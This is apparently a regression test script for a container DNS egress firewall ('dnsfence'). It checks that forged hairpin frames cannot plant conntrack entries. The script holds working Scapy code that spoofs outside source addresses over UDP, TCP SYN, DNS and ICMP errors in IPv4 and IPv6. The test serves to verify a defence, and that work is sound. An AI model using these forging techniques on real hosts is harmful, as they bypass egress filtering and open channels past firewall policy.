#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Invariant 13, forward scope: a container that forges a hairpin frame
# plants no conntrack entry. The container (root, raw sockets) sends one
# Ethernet frame to the gateway's MAC whose IP source is an outside
# address V and whose destination is the container itself; the host
# routes it back out of the same bridge. Without source validation that
# confirms an entry with V as its original source, and the container's
# ordinary packets to V are then its reply direction, which the
# established accept forwards: a two-way channel to an address nobody
# resolved. Tried as UDP (IPv4, IPv6), as a forged TCP SYN (the kernel's
# SYN-ACK to V), and with V = the upstream resolver's address and port 53
# (a query for a denied name from the planted port pair), and as a forged
# ICMP error about the planted flow (RELATED to its entry), IPv4 and IPv6.
#
# Far side: tcpdump on the upstream's veth; nothing from the container to
# V may arrive. Controls: without dnsfence's rules each attack gets out
# (the lab carries it); with them, allowed traffic still works and the
# container's plain packets to V (no forged frame) are rejected. Both
# iptables backends (nft, legacy).
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/forward_lab.sh"
df_start_listener 8080

# forge OFFSET: every attack of ATTACKS in one run, container ports
# moved by OFFSET (a fresh pair per round): the forged frame V:VPORT ->
# container:CPORT, then the container's own packet from CPORT to V:VPORT
# (UDP: a datagram, or a DNS query for x.evil.test when VPORT is 53; TCP:
# a listener on CPORT, so the kernel answers the forged SYN with a
# SYN-ACK; ICMP: an error about the planted UDP flow, RELATED to its
# entry). Prints "NAME answered" for each query the upstream answered.
forge() {
	local off=$1 a specs=()
	for a in "${ATTACKS[@]}"; do
		set -- $a
		specs+=("$1:$2:$3:$4:$5:$(($6 + off))")
	done
	lab_py '
import socket, sys, time
from scapy.all import Ether, IP, IPv6, UDP, TCP, ICMP, ICMPv6DestUnreach, Raw, DNS, DNSQR, send, sendp, conf, get_if_hwaddr
conf.verb = 0
ifn, gwmac, me4, me6 = sys.argv[1:5]
mac = get_if_hwaddr(ifn)
for spec in sys.argv[5:]:
    name, fam, proto, rest = spec.split(":", 3)
    v, vport, cport = rest.rsplit(":", 2)
    vport, cport, me = int(vport), int(cport), me6 if fam == "6" else me4
    s = socket.socket(socket.AF_INET6 if fam == "6" else socket.AF_INET,
                      socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((me, cport))
    if proto == "tcp":
        s.listen(4)
    l3 = IPv6(src=v, dst=me) if fam == "6" else IP(src=v, dst=me)
    l4 = TCP(sport=vport, dport=cport, flags="S", seq=1000) if proto == "tcp" else UDP(sport=vport, dport=cport) / Raw(b"plant")
    sendp(Ether(src=mac, dst=gwmac) / l3 / l4, iface=ifn)
    time.sleep(0.3)
    if proto == "icmp":
        err = IPv6(src=me, dst=v) / ICMPv6DestUnreach(code=4) if fam == "6" else IP(src=me, dst=v) / ICMP(type=3, code=3)
        for _ in range(3):
            send(err / l3 / l4)
    elif proto == "udp":
        msg = bytes(DNS(id=4242, rd=1, qd=DNSQR(qname="x.evil.test"))) if vport == 53 else b"LEAK-hairpin"
        for _ in range(3):
            s.sendto(msg, (v, vport))
        if vport == 53:
            s.settimeout(1)
            try:
                s.recvfrom(2048)
                print(name, "answered")
            except OSError:
                pass
    sys.stdout.flush()
' "$CT_IF" "$GW_MAC" "$CT4" "$CT6" "${specs[@]}" >"$DF_TMP/forge.out" || fail "the forger failed"
}

# arrived_re NAME FAMILY PROTO V VPORT CPORT: what the container's packet
# looks like in the far side's capture.
arrived_re() {
	local me=$CT4 ip=IP
	[ "$2" = 4 ] || { me=$CT6; ip=IP6; }
	if [ "$3" = icmp ]; then
		echo " $ip ${me//./\\.} > ${4//./\\.}: ICMP"
	else
		echo " $ip ${me//./\\.}\\.$6 > ${4//./\\.}\\.$5: "
	fi
}

# orig_source ADDR: the host holds a conntrack entry whose original
# direction comes from ADDR (the first src= of a line).
orig_source() {
	host conntrack -L -f "$([[ $1 == *:* ]] && echo ipv6 || echo ipv4)" 2>/dev/null |
		awk -v v="src=$1" '{ for (i = 1; i <= NF; i++) if ($i ~ /^src=/) { if ($i == v) f = 1; break } } END { exit !f }'
}

# How often the upstream's query log shows the denied name.
evil_seen() { awk 'tolower($0) ~ / x\.evil\.test\. / { n++ } END { print n + 0 }' "$DF_TMP/unbound.log"; }

ATTACKS=(
	"udp-v4 4 udp $V4 41001 42001"
	"udp-v6 6 udp $V6 41002 42002"
	"tcp-syn-v4 4 tcp $V4 41003 42003"
	"tcp-syn-v6 6 tcp $V6 41004 42004"
	"upstream-dns-v4 4 udp $DF_UP4 53 42005"
	"upstream-dns-v6 6 udp $DF_UP6 53 42006"
	"icmp-error-v4 4 icmp $V4 41007 42007"
	"icmp-error-v6 6 icmp $V6 41008 42008"
)

# Control: no dnsfence rules; the lab carries every attack to the far side.
lab_capture_start
forge 0
for a in "${ATTACKS[@]}"; do
	set -- $a
	lab_arrived "$(arrived_re "$@")" || fail "control (no fence): $1 did not reach the far side"
	[ "$5" != 53 ] || grep -x "$1 answered" "$DF_TMP/forge.out" >/dev/null || fail "control: $1: the upstream did not answer the container"
done
ok "control (no fence): all ${#ATTACKS[@]} attacks reach the far side, the upstream answers"

off=0
for be in nft legacy; do
	lab_fence "$be"
	lab_allowed_works "$be"
	# The plain packets (no forged frame) are the fence's to reject.
	ct "$DF_PY" -c 'import socket; s = socket.socket(); s.settimeout(2)
try:
    s.connect(("'"$V4"'", 8080)); print("connected")
except OSError as e:
    print(e.strerror)' | grep "refused" >/dev/null || fail "$be: a plain connection to $V4 was not refused"
	ok "$be: a plain connection to $V4 is refused"
	lab_capture_start
	seen_before=$(evil_seen)
	off=$((off + 100))
	forge "$off"
	sleep 1
	leaked=()
	for a in "${ATTACKS[@]}"; do
		set -- $a
		re=$(arrived_re "$1" "$2" "$3" "$4" "$5" "$(($6 + off))")
		if grep -qaE -- "$re" "$LAB_CAPTURE"; then
			leaked+=("$1")
			echo "leaked ($be, $1): $(grep -m1 -aE -- "$re" "$LAB_CAPTURE")" >&2
		fi
	done
	[ "${#leaked[@]}" -eq 0 ] ||
		fail "$be: forged hairpin frames planted entries, and the container's packets to V arrived: ${leaked[*]}"
	! grep -q answered "$DF_TMP/forge.out" || fail "$be: the upstream answered the container: $(cat "$DF_TMP/forge.out")"
	[ "$(evil_seen)" -eq "$seen_before" ] || fail "$be: the denied name reached the upstream"
	for v in "$V4" "$V6" "$DF_UP4" "$DF_UP6"; do
		! orig_source "$v" || fail "$be: a conntrack entry whose original source is the outside $v exists"
	done
	ok "$be: ${#ATTACKS[@]} forged hairpin attacks: nothing reached the far side, no entry with an outside source, the denied name never upstream"
	lab_allowed_works "$be, after the attacks"
	lab_unfence "$be"
done
